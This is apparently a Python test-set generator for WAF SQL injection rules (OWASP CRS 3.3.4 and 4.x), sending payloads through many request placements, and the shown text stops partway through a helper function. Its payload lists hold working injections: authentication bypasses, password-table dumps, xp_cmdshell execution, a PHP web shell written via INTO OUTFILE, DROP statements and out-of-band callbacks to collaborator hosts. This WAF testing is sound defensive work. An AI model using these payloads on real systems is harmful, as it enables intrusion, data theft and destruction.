"""Blind SQL injection set written the way scanners and exploitation tools send their active checks: the
positive regression tests a fifteenth rule author writes for the CRS 3.3.4 SQL injection request-rule titles
(paranoia levels 1 and 2) and four later (4.x) titles, from the titles alone.

Angle: each title's canonical attack first, then one payload per alternative its family covers (keywords,
functions, operators, comment styles, DB dialects: MySQL, MSSQL, PostgreSQL, Oracle, SQLite, DB2, Firebird,
Access, MongoDB), built the way automated tools build them: DAST time-based probes (SLEEP, BENCHMARK,
pg_sleep, WAITFOR DELAY, DBMS_PIPE), boolean pairs, error-based probes (EXTRACTVALUE, UPDATEXML, CONVERT),
out-of-band callbacks to collaborator-style hosts (xp_dirtree, UTL_HTTP, UTL_INADDR, COPY TO PROGRAM),
injection tools' tamper styles (comments for spaces, versioned comments, random case, hex and CHAR encoding,
tabs and newlines for spaces), the auth-bypass strings of login probes and the quote/backtick probes that
open every scan.

Family: sqli only. Sub-families (one per title, kebab-case from the title): libinjection, common-db-names,
sleep-benchmark-blind, benchmark-sleep-conditional, mssql-code-exec-info-gathering, integer-overflow-magic-number,
conditional-injection, charset-switch-mssql-dos, match-against-merge-execute-immediate, basic-sqli-common-string,
pg-sleep-waitfor-shutdown, mongodb-injection, stored-procedure-function, udf-data-structure-manipulation,
concatenated-basic-sqli-sqllfi, mysql-inline-comment, common-injection-testing, sql-operator, sql-tautology,
sql-injection-attack-942150, auth-bypass-1-of-3, comment-space-obfuscation-backtick, chained-injection-1-of-2,
auth-bypass-2-of-3, comments-conditions-char, chained-injection-2-of-2, classic-probing-1-of-3,
auth-bypass-3-of-3, alter-or-union-keyword, classic-probing-2-of-3, sql-injection-attack-942380 (and 942390,
942400, 942410, 942470, 942480), special-char-anomaly, sql-comment-sequence, sql-hex-encoding,
tick-backtick-bypass, json-based-sqli, mysql-scientific-notation, auth-bypass-split-query, auth-bypass-4-of-4.

Placements: every payload is sent twice. Once to our real routes, rotating over query (GET /api/users),
form (POST /admin/users/search with csrf_token), json (POST /api/users, now and then PATCH /api/users/42),
cookie, header:User-Agent, header:Referer, header:X-Forwarded-For, param-name, xml, multipart-field,
multipart-filename and path (/api/users/<payload>). Once the way a WAF regression suite sends it, to paths that
are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary
parameter names (foo, var, x, test, id, arg1): rs-query, rs-form, rs-json, rs-xml, rs-raw-body (a form-typed
body that is not key=value), rs-header:User-Agent, rs-header:Referer, rs-header:X-Custom and rs-cookie.
Benign requests carry the same words innocently (Slack messages and bios, searches, names with apostrophes,
addresses, prose, documentation links, browser and client headers).

Authorship and independence: written from general knowledge of how scanners and SQL injection tools build their
payloads and from the rule titles alone; no rule, engine, ruleset regression test, other blind set or public
payload list was read. Measured once on unchanged code. Deterministic (seeded random for tokens only).
"""

from __future__ import annotations

import json
import random
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen_blind_php import chat_and_bio
from .records import print_records

NAME = "hundredeleventh"

CHROME_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
             "Chrome/126.0.0.0 Safari/537.36")
FIREFOX_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
SAFARI_UA = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
             "Version/17.5 Safari/605.1.15")
UAS = [CHROME_UA, FIREFOX_UA, SAFARI_UA]

# (CRS id, sub-family, payloads): the canonical attack first, then one per alternative of the family.
TITLES: list[tuple[str, str, list[str]]] = [
    ("942100", "libinjection", [
        "1' OR '1'='1",
        "1 UNION ALL SELECT NULL,NULL,NULL-- -",
        "-1' UNION SELECT 1,2,3,concat(user(),0x3a,database())-- -",
        "1) AND 5286=5286 AND (7315=7315",
        "1' AND 8523=8523 AND 'qZpx'='qZpx",
        "admin'--",
        "1;SELECT pg_sleep(5)--",
        "' OR 1=1#",
        "1 AND (SELECT 7355 FROM(SELECT COUNT(*),CONCAT(0x71786a7171,(SELECT (ELT(7355=7355,1))),0x716b627871,"
        "FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)",
        "1' ORDER BY 10-- -",
        "\") OR (\"1\"=\"1",
        "1'; DROP TABLE users--",
        "1 AND 1=2 UNION SELECT username, password FROM users",
    ]),
    ("942140", "common-db-names", [
        "1 UNION SELECT table_name,NULL FROM information_schema.tables-- -",
        "' UNION SELECT user,authentication_string FROM mysql.user#",
        "1' AND 1=(SELECT COUNT(*) FROM sysobjects WHERE xtype='U')--",
        "1 UNION SELECT name FROM master..sysdatabases--",
        "' UNION SELECT tablename,NULL FROM pg_catalog.pg_tables--",
        "' UNION SELECT usename,passwd FROM pg_shadow--",
        "' UNION SELECT table_name,NULL FROM all_tables--",
        "' UNION SELECT name,sql FROM sqlite_master WHERE type='table'--",
        "1 AND EXISTS(SELECT * FROM MSysAccessObjects)",
        "' UNION SELECT username,NULL FROM dba_users--",
        "1 UNION SELECT NULL FROM sysibm.sysdummy1--",
        "1 UNION SELECT NULL FROM rdb$database",
        "' AND (SELECT TOP 1 name FROM msdb..backupset)>0--",
    ]),
    ("942160", "sleep-benchmark-blind", [
        "1 AND SLEEP(5)",
        "1' AND SLEEP(5) AND 'a'='a",
        "1' AND (SELECT 4564 FROM (SELECT(SLEEP(5)))PmHh)-- Aubk",
        "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
        "(select(0)from(select(sleep(15)))v)/*'+(select(0)from(select(sleep(15)))v)+'\"+"
        "(select(0)from(select(sleep(15)))v)+\"*/",
        "1 AND BENCHMARK(5000000,MD5(0x41))",
        "1' OR BENCHMARK(10000000,SHA1(1))#",
        "'+sleep(10)+'",
        "1;SELECT SLEEP(5)#",
        "1 AND sLeEp/**/(5)",
        "-1 OR SLEEP(5)=0 LIMIT 1-- ",
        "if(now()=sysdate(),sleep(15),0)",
        "1'||sleep(7)||'",
    ]),
    ("942170", "benchmark-sleep-conditional", [
        "1 AND IF(1=1,SLEEP(5),0)",
        "1' AND IF(SUBSTRING(version(),1,1)='5',BENCHMARK(5000000,MD5(1)),0)-- -",
        "SELECT IF(ASCII(SUBSTR(user(),1,1))>64,SLEEP(5),0)",
        "1 AND (SELECT CASE WHEN (1=1) THEN SLEEP(5) ELSE 0 END)",
        "'; SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END--",
        "1' AND (SELECT * FROM (SELECT IF(1=1,SLEEP(5),1))a)-- x",
        "1 OR IF(LENGTH(database())>1,SLEEP(3),0)",
        "ELT(1=1,SLEEP(5))",
        "1 AND 2=IF(1=1,BENCHMARK(3000000,SHA1(0x31)),2)",
        "1' AND (SELECT 1 FROM (SELECT SLEEP(5) WHERE 1=1)x)-- ",
        "SELECT BENCHMARK(1000000,ENCODE('a','b'))",
        ";select if((select user())like 'root%',sleep(5),1)",
    ]),
    ("942190", "mssql-code-exec-info-gathering", [
        "'; EXEC master..xp_cmdshell 'ping -n 10 127.0.0.1'--",
        "1;exec xp_cmdshell('whoami')--",
        "'; EXEC master.dbo.xp_dirtree '\\\\abc123.oastify.com\\a'--",
        "1 UNION SELECT @@version--",
        "' UNION SELECT NULL,@@servername--",
        "1 AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases))--",
        "'; EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE--",
        "1' UNION SELECT user_name(),db_name()--",
        "';exec('sel'+'ect 1')--",
        "1;EXEC sp_executesql N'SELECT 1'--",
        "';EXEC master..xp_fileexist 'c:\\boot.ini'--",
        "' UNION SELECT system_user,host_name()--",
        "';DECLARE @q varchar(99);SET @q='\\\\x7.burpcollaborator.net\\a';EXEC master.dbo.xp_dirtree @q;--",
    ]),
    ("942220", "integer-overflow-magic-number", [
        "3.0.00738585072007e-308",
        "2147483648",
        "-2147483649",
        "4294967296",
        "4294967295",
        "2.2250738585072011e-308",
        "2.2250738585072012e-00308",
        "9223372036854775808",
        "-9223372036854775809",
        "18446744073709551616",
        "0x100000000",
        "1e309",
    ]),
    ("942230", "conditional-injection", [
        "1 AND (CASE WHEN (1=1) THEN 1 ELSE 1/(SELECT 0) END)=1",
        "(CASE WHEN (7714=7714) THEN 1 ELSE (SELECT 9834 UNION SELECT 1273) END)",
        "1' AND IF(1=1,1,0)='1",
        "' AND IIF(1=1,1,1/0)=1--",
        "1 AND DECODE(1,1,1,0)=1",
        "' OR (SELECT CASE WHEN (SUBSTR(user,1,1)='S') THEN TO_CHAR(1/0) ELSE 'a' END FROM dual)='a'--",
        "1 ORDER BY (CASE WHEN 1=1 THEN 1 ELSE 2 END)",
        "IF(2>1,'true','false')",
        "1' AND IFNULL(ASCII(SUBSTRING(user(),1,1)),0)>64-- -",
        "1,(select case when (1=1) then 1 else 1*(select 1 union select 2) end)",
        "x' AND NULLIF(1,1) IS NULL--",
        "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- -",
    ]),
    ("942240", "charset-switch-mssql-dos", [
        "'; WAITFOR DELAY '0:0:5'--",
        "'; waitfor time '23:59:59'--",
        "1;ALTER TABLE users CONVERT TO CHARACTER SET latin1--",
        "'; ALTER DATABASE shop CHAR SET utf8--",
        "\";WAITFOR DELAY '00:00:10'--",
        "';x:goto x--",
        "1'; SET NAMES gbk--",
        "1' UNION SELECT CONVERT(user() USING latin1)-- -",
        "1 AND _latin1'a'=_utf8'a'",
        "`;WAITFOR DELAY '0:0:7'--",
        "';while 1=1 waitfor delay '0:0:1'--",
        "1;ALTER TABLE t MODIFY name VARCHAR(20) CHARACTER SET gbk",
    ]),
    ("942250", "match-against-merge-execute-immediate", [
        "1' AND MATCH(title) AGAINST('+admin' IN BOOLEAN MODE)-- -",
        "') OR MATCH(username,password) AGAINST ('a*' IN BOOLEAN MODE)#",
        "1;MERGE INTO users u USING (SELECT 1 id FROM dual) s ON (u.id=s.id) WHEN MATCHED THEN UPDATE SET "
        "u.role='admin'--",
        "MERGE users USING (SELECT 1) AS s ON 1=1 WHEN MATCHED THEN DELETE;",
        "';EXECUTE IMMEDIATE 'DROP TABLE users';--",
        "BEGIN EXECUTE IMMEDIATE 'ALTER USER sys IDENTIFIED BY x'; END;",
        "' || EXECUTE IMMEDIATE 'select 1 from dual' --",
        "1' UNION SELECT 1 FROM articles WHERE MATCH (body) AGAINST ('database')-- -",
        "x') AND MATCH (a) AGAINST ('\"x\"' IN NATURAL LANGUAGE MODE)-- ",
        "';DECLARE PRAGMA AUTONOMOUS_TRANSACTION; BEGIN EXECUTE IMMEDIATE 'select 1'; COMMIT; END;--",
        "1;merge into t using (select 2 from dual) on (1=1) when not matched then insert values (1)--",
    ]),
    ("942270", "basic-sqli-common-string", [
        "1 union select password from users",
        "' UNION SELECT username, password FROM users--",
        "-1 UNION ALL SELECT 1,2,group_concat(table_name) FROM information_schema.tables",
        "1' uNiOn SeLeCt null,version() fRoM dual-- -",
        "0 union select banner from v$version",
        "99999 union select 1 from dual",
        "' union all select @@version from dual#",
        "1 UNION DISTINCT SELECT name FROM sqlite_master",
        "') union select user from mysql.user;#",
        "1 union(select(1),(2)from(dual))",
        "1\tunion\tselect\tpasswd\tfrom\tpg_shadow",
        "-5 UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b",
    ]),
    ("942280", "pg-sleep-waitfor-shutdown", [
        "'||pg_sleep(10)--",
        "1;SELECT pg_sleep(5)--",
        "1 AND 1=(SELECT 1 FROM pg_sleep(5))",
        "'; WAITFOR DELAY '0:0:5'--",
        "1);waitfor delay '0:0:10'--",
        "1;SHUTDOWN--",
        "'; SHUTDOWN WITH NOWAIT;--",
        "1';SELECT pg_sleep_for('5 seconds')--",
        "(select 1 from pg_sleep(10))",
        "1 WAITFOR DELAY '00:00:05'",
        "'); shutdown --",
        "1 AND 4816=(SELECT 4816 FROM PG_SLEEP(5))",
        "';SELECT CASE WHEN 1=1 THEN pg_sleep(5) END--",
    ]),
    ("942290", "mongodb-injection", [
        "{\"$ne\": null}",
        "{\"$gt\": \"\"}",
        "{\"$where\": \"sleep(5000)\"}",
        "'; return this.password.match(/^a/) && sleep(5000); var d='",
        "{\"$regex\": \".*\"}",
        "{\"$nin\": [\"admin\"]}",
        "{\"$or\": [{}, {\"a\": \"a\"}]}",
        "{\"$exists\": true}",
        "[$ne]=1",
        "db.getCollectionNames()",
        "{\"$where\": \"this.role == 'admin'\"}",
        "true, $where: '1 == 1'",
        "{\"$expr\": {\"$eq\": [1, 1]}}",
    ]),
    ("942320", "stored-procedure-function", [
        "1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)",
        "1' LIMIT 1 PROCEDURE ANALYSE()-- -",
        "'; CREATE FUNCTION sys_eval RETURNS string SONAME 'lib_mysqludf_sys.so';--",
        "';CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' "
        "LANGUAGE 'c' STRICT;--",
        "'; CREATE PROCEDURE p() BEGIN SELECT SLEEP(5); END;--",
        "1;DECLARE @x varchar(99);SET @x=0x77686f616d69;EXEC(@x)--",
        "';DO $$ BEGIN PERFORM pg_sleep(5); END $$;--",
        "'; CALL sys.exec('id');--",
        "1; SELECT lo_import('/etc/passwd');--",
        "1;CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW SET NEW.role='admin'",
        "'; COPY (SELECT '') TO PROGRAM 'nslookup abc.oastify.com'--",
        "';SELECT * FROM dblink('host=x.oast.fun user=a dbname=b','select 1') RETURNS (r int)--",
        "1 AND (SELECT query_to_xml('select 1',true,true,''))::text>'0'",
    ]),
    ("942350", "udf-data-structure-manipulation", [
        "1;CREATE FUNCTION sys_exec RETURNS int SONAME 'udf.dll'",
        "';DROP TABLE users;--",
        "1; TRUNCATE TABLE logs--",
        "'; INSERT INTO users(username,role) VALUES('scan','admin');--",
        "1;UPDATE users SET role='admin' WHERE id=1--",
        "';DELETE FROM sessions;--",
        "1; ALTER TABLE users ADD COLUMN x int--",
        "'; CREATE TABLE pwn(data text);--",
        "1;SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'",
        "';RENAME TABLE users TO users_old;--",
        "1;DROP DATABASE shop--",
        "'; GRANT ALL PRIVILEGES ON *.* TO 'scan'@'%';--",
        "1;REPLACE INTO config VALUES('debug','1')",
    ]),
    ("942360", "concatenated-basic-sqli-sqllfi", [
        "1' AND 1=0 UNION SELECT LOAD_FILE('/etc/passwd')-- -",
        "' UNION SELECT load_file(0x2f6574632f706173737764)#",
        "1 union select 1,load_file('/etc/hosts'),3",
        "'; SELECT pg_read_file('/etc/passwd',0,200);--",
        "1' UNION SELECT 1 INTO OUTFILE '/tmp/x'-- -",
        "1 INTO DUMPFILE '/var/www/x.php'",
        "1;select * from users",
        "1' select 1 from dual",
        "0\" union select 1--",
        "'; exec('x')--",
        "1 AS x UNION SELECT 1",
        "1; DECLARE @s varchar(8000)",
    ]),
    ("942500", "mysql-inline-comment", [
        "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,3-- -",
        "1'/*!AND*/1=1-- -",
        "/*!12345union*/ /*!12345select*/ 1",
        "1/*!00000OR*/1=1",
        "' /*!50000union all select*/ user()#",
        "1 /*!SLEEP(5)*/",
        "/*!32302 1/0, */ 1",
        "1/*!30000AND 2>1*/",
        "'/*!*/or/*!*/'1'='1",
        "1 UNION /*!SELECT*/ 1",
        "x'/*!00000AND*/(SELECT 1)#",
        "1+/*!50000uNiOn*/+/*!50000sElEcT*/+1",
    ]),
    ("942110", "common-injection-testing", [
        "'",
        "\"",
        "1'",
        "admin'",
        "';",
        "`",
        "''",
        "1\"",
        "'--",
        ";",
        "x'\"`",
        "1'''",
    ]),
    ("942120", "sql-operator", [
        "1 RLIKE 1",
        "1' REGEXP '^[a-z]'-- ",
        "1 XOR 1",
        "1 <=> 1",
        "a' SOUNDS LIKE 'a",
        "1 NOT BETWEEN 0 AND 1",
        "1 IS NOT NULL",
        "' LIKE BINARY 'a",
        "1 && 1=1",
        "x' || 'a'='a",
        "1 != 2",
        "1 DIV 1",
        "ISNULL(1/0)",
        "1 AND 1 ^ 0",
    ]),
    ("942130", "sql-tautology", [
        "1' OR '1'='1",
        "' or 'a'='a",
        "1 OR 1=1",
        "\" or \"x\"=\"x",
        "1 or 2>1",
        "' OR 'abc' LIKE 'abc",
        "1 AND 5=5",
        "x' or 3!=4--",
        "') or ('1'='1",
        "1 or true",
        "-1 OR 2=2-- -",
        "1 OR 'z'<>'y'",
        "admin' or 1<2#",
    ]),
    ("942150", "sql-injection-attack-942150", [
        "1 AND ascii(substring(user(),1,1))>64",
        "' AND length(database())>0-- -",
        "1 AND ORD(MID(version(),1,1))>51",
        "' union select concat_ws(0x3a,user(),database())#",
        "1 AND hex(user())>0",
        "1 AND char_length(@@version)>1",
        "' AND extractvalue(1,concat(0x7e,version()))-- -",
        "1 AND updatexml(1,concat(0x7e,user()),1)",
        "' AND exp(~(select * from(select user())x))-- ",
        "1 AND instr(user(),'root')>0",
        "' AND unhex('41')='A",
        "1 and strcmp(left(database(),1),'a')=0",
        "1 AND utl_http.request('http://x9.oastify.com/')=1",
    ]),
    ("942180", "auth-bypass-1-of-3", [
        "admin'--",
        "admin' #",
        "' or ''='",
        "'='",
        "' OR 1=1 LIMIT 1-- -",
        "admin')--",
        "\"=\"",
        "1' or '1'='1'/*",
        "'-'",
        "' OR 'x'='x'#",
        "'||'",
        "' or 0=0 --",
    ]),
    ("942200", "comment-space-obfuscation-backtick", [
        "1'/**/OR/**/1=1#",
        "1/**/UNION/**/SELECT/**/1,2,3",
        "'/**/or/**/'1'/**/=/**/'1",
        "1`) OR 1=1-- -",
        "x` UNION SELECT 1-- -",
        "1'\nOR\n1=1-- -",
        "1,(SeLeCt/**/1)",
        "'/*x*/OR/*x*/1=1/*",
        "1 UNION\u00a0SELECT 1",
        "1'||(select/**/1)#",
        "1`=1`-- ",
        "id`,(select user())#",
    ]),
    ("942210", "chained-injection-1-of-2", [
        "1; SELECT * FROM users",
        "1 && (SELECT 1)",
        "1' AND 1 IN (SELECT 1)-- -",
        "'; INSERT INTO logs VALUES('x')--",
        "1 || (SELECT 1 FROM dual)",
        "\"; select 1 --",
        "1'); SELECT version();--",
        "x AND (SELECT COUNT(*) FROM users)>0",
        "';SELECT 1;SELECT 2--",
        "1 OR (SELECT 1)=1",
        "1' AND EXISTS(SELECT 1)-- -",
        "1 ; update users set x=1",
    ]),
    ("942260", "auth-bypass-2-of-3", [
        "' HAVING 1=1--",
        "' GROUP BY users.id HAVING 1=1--",
        "admin' AND 1=1 GROUP BY 1--",
        "1' ORDER BY 1--+",
        "\" or \"a\"=\"a",
        "') or ('a'='a",
        "' or 1 like 1--",
        "1' or 'x' in ('x')--",
        "x' ORDER BY 3#",
        "' or username like '%",
        "' or 1 between 0 and 2--",
        "') or true--",
    ]),
    ("942300", "comments-conditions-char", [
        "1' AND char(65)=0x41-- -",
        "' + char(97) + char(100) + char(109) + char(105) + char(110) + '",
        "1 AND chr(65)||chr(66)='AB'",
        "') or ('1'='1'#",
        "1)) or 1=1#",
        "' UNION SELECT CHAR(114,111,111,116)#",
        "1 or char(49)=char(49)--",
        "1');select chr(114)||chr(111)--",
        "x')) OR 1=1-- -",
        "1) AND ( SELECT 1 )=1 #",
        "CHAR(0x61,0x64)",
        "'||CHR(83)||CHR(67)||'",
    ]),
    ("942310", "chained-injection-2-of-2", [
        "1' || (SELECT user FROM dual) || '",
        "1;(select 1)",
        "') UNION (SELECT 1)--",
        "1 AND (SELECT 1 FROM users LIMIT 1)=1",
        "\"; EXEC xp_cmdshell 'dir'--",
        "1);SELECT 1--",
        "'||(SELECT version())||'",
        "1' and (select substring(@@version,1,1))='5",
        "'; UPDATE users SET pw='x'--",
        "1),(select 1),(2",
        "x' AND 1=(select top 1 1 from sysobjects)--",
        "';select+1--",
    ]),
    ("942330", "classic-probing-1-of-3", [
        "' or '1",
        "\" or \"1",
        "' and 'a",
        "1' and 1",
        "' xor '1",
        "1\" and \"2",
        "x' or 1 --",
        "' || '1",
        "1' && '1",
        "'or'1",
        "\" and 1",
        "x' div 1 #",
    ]),
    ("942340", "auth-bypass-3-of-3", [
        "' IN ('admin')--",
        "' LIKE '%",
        "admin' IS NOT NULL--",
        "' BETWEEN 'a' AND 'z",
        "'='' or ''='",
        "x' in (select username from users)#",
        "1' = '1",
        "' or username is not null or username = '",
        "\" like \"%",
        "'<>'x",
        "' >= '",
        "admin' = 'admin",
    ]),
    ("942361", "alter-or-union-keyword", [
        "1 UNION SELECT 1",
        "' UNION ALL SELECT NULL--",
        "1 union(select 1)",
        "'; ALTER TABLE users DROP COLUMN pw--",
        "1 ALTER USER root IDENTIFIED BY 'x'",
        "-1 UNION SELECT NULL,NULL,NULL#",
        "1\"union select 1",
        "1 UNION#\nSELECT 1",
        "x') UNION DISTINCT SELECT 1-- ",
        "'; alter login sa with password='x'--",
        "1 uNIoN/**/sElecT 1",
        "0 UNION VALUES(1)",
    ]),
    ("942370", "classic-probing-2-of-3", [
        "1'*1*'1",
        "1' - '0",
        "'+'",
        "') = ('",
        "1' / '1",
        "\"*\"",
        "' || ''",
        "x'%'1",
        "1' + 0 + '",
        "'&'",
        "'^'",
        "1'|1|'",
    ]),
    ("942380", "sql-injection-attack-942380", [
        "1 having 1=1",
        "1' execute('select 1')--",
        "1' order by 1-- -",
        "1 group by 1,2,3",
        "1 and exists(select * from users)",
        "1; insert into users values(1)",
        "'; delete from users where 1=1--",
        "1 union select 1",
        "1' into outfile '/tmp/x'",
        "1 having count(*)>0",
        "1 order by 99#",
        "1 limit 1 into @a",
    ]),
    ("942390", "sql-injection-attack-942390", [
        "1 or 2=2",
        "1' XOR '1'='1",
        "x AND 1 = 1",
        "1 or 0x50=0x50",
        "' or true--",
        "1 and 'a'='a'",
        "a' or 1 in (1)#",
        "1 xor 2>1",
        "1 || 1=1",
        "'OR(1)=(1)--",
        "1 and null is null",
        "1 or ascii(1)=49",
    ]),
    ("942400", "sql-injection-attack-942400", [
        "1 and '1'='1'",
        "x and 1=1",
        "' and 1>0--",
        "1 and (1)=(1)",
        "1 and user like 'r%'",
        "1 AND 8523=8523",
        "1' and substring(version(),1,1)='5",
        "a and b<c",
        "1 and true",
        "1\" and \"a\"=\"a",
        "1 and 0<1",
    ]),
    ("942410", "sql-injection-attack-942410", [
        "1 AND benchmark(1,1)",
        "x' AND sha1('a')='b",
        "1 AND md5(1)",
        "1 + cast(user() as char)",
        "' AND convert(int,@@version)--",
        "1 AND substr(user(),1,1)='r'",
        "1 AND coalesce(null,1)=1",
        "' OR current_user()>0#",
        "1 AND rand()>0",
        "1 and lpad(1,2,3)",
        "' and sys_context('USERENV','DB_NAME')='x",
        "1 and pg_sleep(1) is null",
        "1 AND randomblob(100000000)",
    ]),
    ("942470", "sql-injection-attack-942470", [
        "'; EXEC xp_cmdshell 'dir'--",
        "1;exec sp_password--",
        "' AND 1=utl_http.request('http://abc.oastify.com/')--",
        "'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),10)||'",
        "1 AND 1=(SELECT COUNT(*) FROM master..sysservers)",
        "1;SELECT * FROM OPENROWSET('SQLOLEDB','x';'sa';'', 'select 1')--",
        "';SELECT * FROM OPENDATASOURCE('SQLOLEDB','Data Source=x.oast.me').a.b.c--",
        "1;exec xp_regread 'HKEY_LOCAL_MACHINE','SOFTWARE','x'--",
        "' AND UTL_INADDR.get_host_address('x.burpcollaborator.net') IS NOT NULL--",
        "1;EXEC sp_oacreate 'wscript.shell',@o OUT--",
        "';exec sp_makewebtask 'c:\\inetpub\\wwwroot\\x.html','select 1'--",
        "1 AND DBMS_LOCK.SLEEP(5)=1",
        "';exec xp_servicecontrol 'start','schedule'--",
    ]),
    ("942480", "sql-injection-attack-942480", [
        "1 select name from users limit 1",
        "1'; load data infile '/etc/passwd' into table x--",
        "x' INNER JOIN users ON 1=1--",
        "1; DELETE FROM users",
        "'; UPDATE users SET admin=1--",
        "1' group by password having 1=1--",
        "1 into dumpfile '/tmp/a'",
        "SET PASSWORD FOR root=PASSWORD('x')",
        "1 AND dbms_xmlgen.getxml('select 1') is not null",
        "1 union select user from sqlite_temp_master",
        "' and overlay(user placing 'a' from 1)='a",
        "1' and substring(user(),1,1)='r",
    ]),
    ("942430", "special-char-anomaly", [
        "((((((((((((1))))))))))))",
        "'\"()&%<>;--#/*!*/@@$^~",
        "1'))));--+-+-+--\\*/#",
        "!@#$%^&*()_+{}|:\"<>?[];',./",
        "a'-'b'-'c'-'d'-'e'-'f'-'g'",
        "1'||'2'||'3'||'4'||'5'||'6'",
        "~~~~~~~~~~~~~~~~",
        "'--'--'--'--'--'--",
        "'\";<>()[]{}|&`$",
        "{{$$@@##%%^^&&**}}",
        "=====;;;;;;:::::",
        "1)-(2)-(3)-(4)-(5)-(6)",
    ]),
    ("942440", "sql-comment-sequence", [
        "admin'--",
        "1/*",
        "1#",
        "x'/*comment*/",
        "1-- -",
        "1;--",
        "*/ union /*",
        "1'#",
        "abc--+",
        "1 --",
        "/**/",
        "1';/*",
    ]),
    ("942450", "sql-hex-encoding", [
        "0x61646d696e",
        "1 UNION SELECT 0x3c3f70687020706870696e666f28293b203f3e",
        "' OR username=0x61646d696e--",
        "SELECT CHAR(0x41)",
        "1 AND 0x31=0x31",
        "0x2f6574632f706173737764",
        "X'61646D696E'",
        "0X4142434445",
        "1 and user()=0x726f6f74",
        "concat(0x7171,0x7878)",
        "0x7e",
        "unhex(0x3041)",
    ]),
    ("942510", "tick-backtick-bypass", [
        "`id`",
        "1`or`1",
        "`admin`-- ",
        "select `password` from `users`",
        "`1=1`",
        "x`(select 1)`",
        "`OR 1=1`",
        "`users`.`pw`",
        "`YWRtaW4=`",
        "1' `or` '1",
        "`sleep(5)`",
        "\u00b4 or \u00b41\u00b4=\u00b41",
    ]),
    # later (4.x) titles
    ("4x-json", "json-based-sqli", [
        "1 AND '{\"a\":2}'::jsonb @> '{\"a\":2}'::jsonb",
        "' OR JSON_EXTRACT('{\"id\":1}','$.id')=1-- -",
        "1 OR '{\"b\":1}'->'$.b'=1",
        "' OR data->>'role'='admin'--",
        "1 AND JSON_DEPTH('{}')!=2521",
        "' AND '[1]' <@ '[1,2]'::jsonb--",
        "1 OR JSON_KEYS('{\"x\":1}') IS NOT NULL",
        "' OR '{\"a\":1}'::json#>>'{a}'='1",
        "1 AND JSON_VALID('{}')",
        "1 OR json_array_length('[1]')=1",
        "' OR JSON_CONTAINS('[1]','1')#",
    ]),
    ("4x-sci", "mysql-scientific-notation", [
        "1.e(ascii 1.e(substring(1.e(select password from users limit 1 1.e,1 1.e,1 1.e)1.e)1.e)1.e) = 70 or'1'='2",
        "' or 1.e(1) or '",
        "1.e(select 1)",
        "0.1e1union select 1",
        "1e1union select user()",
        "'1.e('||'a",
        "1.e(user())",
        "-1.e9union select 1",
        "x' 1.e) or 1=1-- ",
        "1.e1from dual",
        "2.e0union(select 1)",
    ]),
    ("4x-split", "auth-bypass-split-query", [
        "admin'/*",
        "*/ OR '1'='1",
        "'/*",
        "*/or 1=1#",
        "admin'||'",
        "admin\\",
        "' or 1=1/*",
        "*/ UNION SELECT 1,'admin'-- ",
        "\\' OR 1=1-- ",
        "admin'/**/--",
        "' and 0/*",
    ]),
    ("4x-auth4", "auth-bypass-4-of-4", [
        "'-0-'",
        "' ^ 0#",
        "'=0--+",
        "'*'",
        "1'<>1#",
        "admin' or 1#",
        "'&'",
        "'|1#",
        "'%'",
        "\"-\"",
        "admin\"#",
    ]),
]

REAL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Forwarded-For",
        "param-name", "xml", "multipart-field", "multipart-filename", "path"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom", "rs-cookie"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_PARAMS = ["foo", "var", "x", "test", "id", "arg1"]
JSON_FIELDS = ["name", "email", "bio", "title", "department", "username"]
HEADER_PLACES = ("cookie", "header:", "rs-header:", "rs-cookie")


class _Builder:
    """Builds the requests of the set from one seeded random source (tokens, header choices)."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    def token(self, n: int = 24) -> str:
        return "".join(self.rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")
                       for _ in range(n))

    def browser(self, accept: str = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                referer: str | None = None) -> dict[str, str]:
        h = {"User-Agent": self.rng.choice(UAS), "Accept": accept, "Accept-Language": "en-US,en;q=0.9",
             "Accept-Encoding": "gzip, deflate, br",
             "Referer": referer or "https://app.example.com/admin/users",
             "Cookie": f"session={self.token(32)}; cookie_consent=accepted"}
        return h

    def scanner(self) -> dict[str, str]:
        """Headers of a regression suite or scanner request: a plain client, no session."""
        return {"User-Agent": "OWASP CRS test agent", "Accept": "*/*"}


def _qs(params: list[tuple[str, str]]) -> str:
    return urllib.parse.urlencode(params, quote_via=urllib.parse.quote, safe="")


def _hval(value: str) -> str:
    """A header value as a tool puts it on the wire: control characters other than tab become spaces."""
    return "".join(c if c == "\t" or ord(c) >= 0x20 else " " for c in value)


def _xml_escape(value: str) -> str:
    return value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _multipart(fields: list[tuple[str, str | None, str]]) -> tuple[str, str]:
    """A multipart/form-data body of (name, filename or None, content); (content type, body)."""
